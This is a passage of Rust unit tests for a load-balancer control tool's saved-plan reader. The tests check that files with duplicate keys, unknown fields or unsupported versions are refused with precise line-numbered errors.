            String::from_utf8(serde_json::to_vec_pretty(&plans_of("inventory/example")).unwrap())
                .unwrap();
        let refused = cases
            .iter()
            .map(|(at, with)| {
                assert!(text.contains(at), "{at}");
                std::fs::write(&path, text.replacen(at, with, 1)).unwrap();
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
                match SavedPlan::read(&path, true) {
                    Err(e @ SavedPlanError::Format { .. }) => e.to_string(),
                    other => panic!("{with}: {other:?}"),
                }
            })
            .collect();
        // the file as lbctl wrote it is read
        std::fs::write(&path, &text).unwrap();
        assert!(SavedPlan::read(&path, true).is_ok());
        let _ = std::fs::remove_dir_all(&dir);
        refused
    }

    #[test]
    fn a_key_written_twice_is_refused_where_it_is() {
        // a JSON reader keeps the last of two keys; whoever reviews the file may read the first
        let refused = malformed(
            "twice",
            &[
                ("\"version\": 1,", "\"version\": 1,\n  \"version\": 1,"),
                (
                    "\"controls\": {",
                    "\"controls\": {\n \"haproxy\": {\"check\": \"true\", \"reload\": \"true\"},",
                ),
            ],
        );
        assert!(
            refused[0].contains("duplicate field `version` at line 4"),
            "{}",
            refused[0]
        );
        assert!(
            refused[1].contains("the key \"haproxy\" is written twice at line"),
            "{}",
            refused[1]
        );
    }

    #[test]
    fn a_field_this_lbctl_does_not_know_is_refused_where_it_is() {
        // a field read by no one could be what a newer lbctl (or an editor) meant to decide
        // what runs: the plan is refused rather than applied without it
        let cases = [
            ("\"version\": 1,", "\"serial\": 3,", "serial"),
            ("\"held_vip\": ", "\"no_verify\": true,", "no_verify"),
            (
                "\"reload\": ",
                "\"reload_first\": \"true\",",
                "reload_first",
            ),
            ("\"tcp_ports\": ", "\"skip\": true,", "skip"),
            ("\"become_root\": ", "\"proxy\": \"x\",", "proxy"),
            ("\"sha256\": ", "\"mode\": \"0777\",", "mode"),
        ];
        let edits: Vec<(&str, String)> = cases
            .iter()
            .map(|(at, field, _)| (*at, format!("{field}\n {at}")))
            .collect();
        let edits: Vec<(&str, &str)> = edits
            .iter()
            .map(|(at, with)| (*at, with.as_str()))
            .collect();
        let refused = malformed("unknown", &edits);
        for ((_, _, field), e) in cases.iter().zip(&refused) {
            assert!(e.contains(&format!("unknown field `{field}`")), "{e}");
            assert!(e.contains(" at line "), "{e}");
        }
    }

    #[test]
    fn another_version_or_format_is_refused() {
        let dir = scratch("version");
        let path = dir.join("p");
        std::fs::write(
            &path,
            r#"{"format": "lbctl-plan", "version": 2, "hosts": []}"#,
        )
        .unwrap();
        assert!(matches!(
            SavedPlan::read(&path, true),
            Err(SavedPlanError::Version { found, .. }) if found == "2"
        ));
        // shown as written, not as a number it is not
        for (written, shown) in [
            ("4294967297", "4294967297"),
            ("\"1\"", "\"1\""),
            ("1.0", "1.0"),
        ] {
            std::fs::write(
                &path,
                format!(r#"{{"format": "lbctl-plan", "version": {written}, "hosts": []}}"#),
            )
            .unwrap();
            let refused = SavedPlan::read(&path, true).unwrap_err();
            assert!(
                refused
                    .to_string()
                    .contains(&format!("of version {shown};")),
                "{refused}"
            );
        }
        std::fs::write(&path, r#"{"hosts": []}"#).unwrap();
        assert!(matches!(
            SavedPlan::read(&path, true),
            Err(SavedPlanError::Format { .. })
        ));
        let _ = std::fs::remove_dir_all(&dir);
    }
}
